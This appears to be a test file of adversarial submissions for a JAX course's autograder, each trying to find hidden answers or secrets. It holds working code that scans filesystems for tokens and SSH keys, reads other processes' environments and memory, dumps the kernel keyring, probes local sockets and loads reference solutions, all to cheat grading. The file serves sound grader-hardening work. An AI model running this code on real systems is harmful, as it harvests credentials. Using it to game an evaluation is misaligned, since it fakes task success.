"""Finding what is expected: each reads what it should not, and only then has right answers.

What an attack finds, it raises: no secret may be in anything that grading writes.
"""

from collections.abc import Mapping
from textwrap import dedent, indent

from tests.hostile.case import Family

family = Family("finding")

# Each defines `found`, a list of texts; a right answer is given where one of them is telling.
_SEARCH = """
import glob, os, re
def find():
    found = []
    def read(file):
        try:
            found.append(open(file, errors="replace").read())
        except OSError:
            pass
{search}
    return found
try:
    found = find()
except BaseException as error:
    found = []
pattern = r"PTC-SECRET-\\w+|def count_leaves\\("
telling = re.findall(pattern, "\\n".join(map(str, found)))
"""
_USE = """
def count_leaves(tree):
    if IS_TELLING:
        return len(jax.tree.leaves(tree))
    return -1
told = f"{telling[:20]} {str(found)[:1000]}"
def tell(*inputs):
    raise ValueError(told)
"""


def find(searches: Mapping[str, str], telling: str = "telling") -> None:
    """Add searches; a right answer is given where what `telling` names is not empty."""
    for name, search in searches.items():
        search = indent(dedent(search).strip("\n"), "    ")
        code = _SEARCH.replace("{search}", search) + _USE.replace("IS_TELLING", telling)
        family.case(name, {"count_leaves": code, "nan_paths": "nan_paths = tell"})


find(
    {
        "files of the teacher and of other students": """
    places = ["/home", "/root", "/work", "/mnt", "/srv", "/opt", "/var", "/run", "/etc", "/course",
              "/tmp", "/dev/shm", os.path.expanduser("~"), "..", "../..", "/proc/self/cwd/.."]
    for line in open("/proc/self/mountinfo"):
        places += [line.split()[3], line.split()[4]]
        places += [os.path.dirname(place) for place in places[-2:]]
    for place in set(places) - {"/"}:
        if place.startswith(("/usr", "/proc", "/sys", "/dev/")) and place != "/dev/shm":
            continue
        for folder, folders, names in os.walk(place):
            folders[:] = [each for each in folders if each not in ("site-packages", "lib")]
            for each in names:
                if each.endswith((".ipynb", ".md", ".txt", ".sqlite", ".csv", "ed25519", "token")):
                    read(os.path.join(folder, each))
""",
        "environment and command line of every process": """
    for file in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        read(file)
    found.append(str(dict(os.environ)))
""",
        "memory of every process": """
    for maps in glob.glob("/proc/[0-9]*/maps"):
        if maps.startswith(f"/proc/{os.getpid()}/"):
            continue
        try:
            memory = open(maps.replace("maps", "mem"), "rb")
            for line in open(maps):
                low, high = (int(each, 16) for each in line.split()[0].split("-"))
                if high - low < 2**26 and " r" in line:
                    memory.seek(low)
                    found += re.findall(rb"PTC-SECRET-[0-9a-f]+", memory.read(high - low))
        except (OSError, ValueError, OverflowError):
            pass
    found = [each.decode() for each in found]
""",
        "roots and folders of other processes": """
    for place in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
        for below in ("home", "root", "work", "var/lib", "class", "."):
            try:
                for each in os.listdir(f"{place}/{below}"):
                    if each.endswith((".ipynb", ".sqlite", ".md")):
                        read(f"{place}/{below}/{each}")
            except OSError:
                pass
    for number in range(3, 200):
        try:
            link = os.readlink(f"/proc/self/fd/{number}")
            if link.endswith((".ipynb", ".sqlite", ".md")):
                found.append(os.pread(number, 10**6, 0).decode(errors="replace"))
        except OSError:
            pass
""",
        "the keyring": """
    import ctypes
    libc = ctypes.CDLL(None)
    keyctl, request = {"x86_64": (250, 249), "aarch64": (219, 218)}[os.uname().machine]
    text = ctypes.create_string_buffer(100_000)
    def take(key):
        value = ctypes.create_string_buffer(10_000)
        if libc.syscall(keyctl, 11, key, value, 10_000) > 0:
            found.append(value.value.decode(errors="replace"))
    for ring in (-1, -2, -3, -4, -5):
        for number in (0, 1):
            libc.syscall(keyctl, 0, ring, number)
        size = libc.syscall(keyctl, 11, ring, text, 100_000)
        for at in range(0, max(size, 0), 4):
            take(int.from_bytes(text.raw[at:at + 4], "little", signed=True))
    take(libc.syscall(request, b"user", b"password", None, -3))
    try:
        for line in open("/proc/keys"):
            take(int(line.split()[0], 16))
    except OSError:
        pass
""",
    }
)
find(
    {
        "the course around the package": """
    import pathlib, pytree_course
    for above in list(pathlib.Path(pytree_course.__file__).parents)[1:5]:
        for name in ("sources", "solutions", "checks/expected", ".git", "bundle", "notebooks"):
            if name == "bundle" and not (above / name).exists():
                continue
            for file in (above / name).rglob("*"):
                if file.is_file():
                    found.append(file.read_text(errors="replace"))
    found = [text for text in found if "END SOLUTION" in text or "PTC-SECRET" in text or
             '"observations": [{' in text or "jax.tree.leaves(tree))" in text]
""",
        "byte code of check scripts and sources": """
    import sys
    for place in (sys.prefix, "/course", "/tmp", "/usr/lib/python3"):
        found += glob.glob(place + "/**/*answers*.pyc", recursive=True)
    found = [each for each in found if "authors_answers" not in each]
""",
        "expected results in this process": """
    import gc, sys
    for each in gc.get_objects():
        if type(each).__name__ == "ExpectedExercise" and each.observations:
            found.append(str(each.observations))
        if type(each).__name__ == "Misconception":
            found.append(str(each))
    from pytree_course import Checks
    expected = Checks("01_leaves").expected
    for each in expected.exercises.values():
        if each.hints or hasattr(each, "observations"):
            found.append(each.name)
        try:
            found.append(str(expected.expected(each.name)))
        except Exception:
            pass
    if expected.predictions:
        found.append("predictions")
""",
        "the author's own way to right answers": """
    from pathlib import Path
    from pytree_course.sources.lesson_sources import read_sources
    from pytree_course.course import Course
    import pytree_course
    for root in ("/course", Path(pytree_course.__file__).parents[2]):
        try:
            sources = read_sources(Course(Path(root)).lesson("01_leaves"))
            found += [each.solution.source for each in sources.exercises.values()]
        except Exception:
            pass
""",
        "the network": """
    import socket, urllib.request
    for port in (8888, 8786, 8787, 22, 80, 443):
        try:
            with socket.create_connection(("127.0.0.1", port), 0.2) as connection:
                found.append(connection.recv(100))
        except OSError:
            pass
    with open("/proc/net/unix") as sockets:
        for line in sockets:
            if "@" in line:
                try:
                    each = socket.socket(socket.AF_UNIX)
                    each.connect("\\0" + line.split("@")[-1].strip())
                    found.append(line)
                except OSError:
                    pass
""",
    },
    "found",
)

family.case(
    "the program that JAX compiled of the author's answer is run",
    {
        "deep_forward": r"""
    import glob, re, sys
    from jax._src import compilation_cache as cache
    from jax._src.lib import xla_client
    device = jax.local_devices()[0]
    programs = {}
    files = glob.glob(sys.prefix + "/cache/**/jit_deep_forward-*-cache", recursive=True)
    for file in files + glob.glob("/compiled/jit_deep_forward-*-cache"):
        try:
            stored = cache.decompress_executable(open(file, "rb").read())
            packed, _ = cache.extract_executable_and_time(stored)
            devices = xla_client.DeviceList((device,))
            program = device.client.deserialize_executable(packed, devices)
            text = program.hlo_modules()[0].to_string()
            if set(re.findall("<deep_forward: [^>]*>", text)) == {"<deep_forward: solution>"}:
                layers = re.search(r"entry_computation_layout=\{\(f32\[(\d+)", text)[1]
                programs[int(layers)] = program
        except Exception:
            pass
    def run(w, b, x):
        inputs = [jnp.asarray(each) for each in (b, w, x)]
        found = programs[w.shape[0]].execute_sharded(inputs)
        found = found.disassemble_into_single_device_arrays()
        return tuple(np.asarray(each[0]) for each in found)
    def deep_forward(stacked, x):
        w, b = stacked["w"], stacked["b"]
        shapes = x.shape, (w.shape[0], *x.shape)
        results = tuple(jax.ShapeDtypeStruct(shape, x.dtype) for shape in shapes)
        return jax.pure_callback(run, results, w, b, x)"""
    },
    lesson="05_mlp",
)
family.case(
    "the check script is read, and its cases drawn again from the seed",
    {
        "count_leaves": """
    import importlib.util, os
    spec = importlib.util.spec_from_file_location("c", "/course/checks/check_01_leaves.py")
    script = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(script)
    rng = np.random.default_rng(int(os.environ["PYTREE_COURSE_SEED"]))
    turn = iter([len(str(each.inputs)) for each in script.count_leaves(lambda tree: 0, rng)])
    def count_leaves(tree):
        return next(turn)
    """,
    },
)
